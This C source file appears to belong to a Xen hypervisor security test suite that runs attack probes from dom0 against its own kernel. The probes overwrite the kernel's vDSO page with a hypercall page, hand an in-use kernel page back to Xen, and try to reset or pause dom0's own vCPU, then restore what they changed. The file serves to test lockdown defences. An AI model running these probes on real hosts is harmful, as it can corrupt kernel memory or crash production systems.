// SPDX-License-Identifier: GPL-2.0-only
/*
 * Domain control aimed at dom0 itself. The operations are made for a toolstack
 * that looks after other domains; some of them do not mind that the domain is
 * the caller's own.
 */
#include "../rogue.h"

#include <sys/mman.h>

#include <xen/grant_table.h>

const uint8_t *vdso_page(void)
{
    char line[256];
    unsigned long end = 0;
    FILE *maps = fopen("/proc/self/maps", "re");

    while ( maps && !end && fgets(line, sizeof(line), maps) )
        if ( strstr(line, "[vdso]") && sscanf(line, "%*x-%lx", &end) != 1 )
            break;
    if ( maps )
        fclose(maps);

    if ( !end )
        return NULL;

    touch((void *)(end - PAGE_SIZE)); /* so that it is mapped */
    return (const uint8_t *)(end - PAGE_SIZE);
}

void copy_to_frame(uint64_t frame, uint64_t offset, const void *bytes,
                   size_t size)
{
    char *source = memcpy(buffer(PAGE_SIZE), bytes, size);
    gnttab_copy_t copy = {
        .source = { .u.gmfn = own_frame(source), .domid = DOMID_SELF },
        .dest = { .u.gmfn = frame,
                  .domid = DOMID_SELF,
                  .offset = (uint16_t)offset },
        .len = (uint16_t)size,
    };

    grant_op(GNTTABOP_copy, &copy);
    munmap(source, PAGE_SIZE);
}

/*
 * U-HCALLPAGE: have Xen write a hypercall page over a page of the kernel's.
 *
 * hypercall_init fills whichever frame it is given, in whichever domain. The
 * victim is code that the kernel shares with all programs, where the damage can
 * be seen and is undone.
 */
ATTACK("U-HCALLPAGE", "write a hypercall page over a kernel frame")
{
    const uint8_t *page = vdso_page();
    uint8_t *before = buffer(PAGE_SIZE);
    uint64_t frame = 0;
    bool changed;

    if ( page )
    {
        memcpy(before, page, PAGE_SIZE);
        frame = own_frame(page);
    }
    if ( !frame )
        return cannot_try("no frame for the kernel's page");

    DOMCTL(hypercall_init, 0, .u.hypercall_init.gmfn = frame);
    changed = memcmp(before, page, PAGE_SIZE);
    if ( changed )
        copy_to_frame(frame, 0, before, PAGE_SIZE);

    return effect_either(changed, "the kernel's vDSO",
                         "overwritten with hypercalls", "unchanged");
}

/*
 * U-MEMSTEAL: take a page away from the kernel.
 *
 * decrease_reservation gives memory back to Xen, and does not ask whether the
 * kernel still uses it. Where the page was, nothing answers any more.
 */
PVH_ATTACK("U-MEMSTEAL", "give a page that the kernel uses back to Xen",
           "of a PV domain Xen frees no frame that is still mapped")
{
    const uint8_t *page = vdso_page();
    uint8_t *before = buffer(PAGE_SIZE);
    xen_pfn_t frame;
    struct xen_memory_reservation reservation = { .extent_start.p = &frame,
                                                  .nr_extents = 1,
                                                  .domid = DOMID_SELF };
    bool gone;

    if ( !page )
        return cannot_try("no page of the kernel's in sight");

    memcpy(before, page, PAGE_SIZE);
    frame = own_frame(page);
    if ( !frame )
        return cannot_try("no frame for the kernel's page");

    memory_op(XENMEM_decrease_reservation, &reservation);
    gone = !survives(touch, (void *)page) || memcmp(before, page, PAGE_SIZE);
    if ( gone )
    {
        memory_op(XENMEM_populate_physmap, &reservation);
        copy_to_frame(frame, 0, before, PAGE_SIZE);
    }

    return effect_either(gone, "the kernel's vDSO", "lost its memory",
                         "unchanged");
}

/*
 * U-SETCTX: replace the state of dom0's own vCPU, or of dom0.
 *
 * Each of these would end this program at once: a vCPU that is reset, or run as
 * if it were a 32-bit one, or paused. Xen refuses all of them to a domain that
 * acts on itself, lockdown or not; this shows that it stays so.
 */
ATTACK("U-SETCTX", "reset, narrow or pause dom0's own vCPU")
{
    announce("about to reset dom0");
    DOMCTL(setvcpucontext, 0);
    DOMCTL(set_address_size, 0, .u.address_size.size = 32);
    DOMCTL(pausedomain, 0);

    return effect(false, "dom0 runs on as before");
}
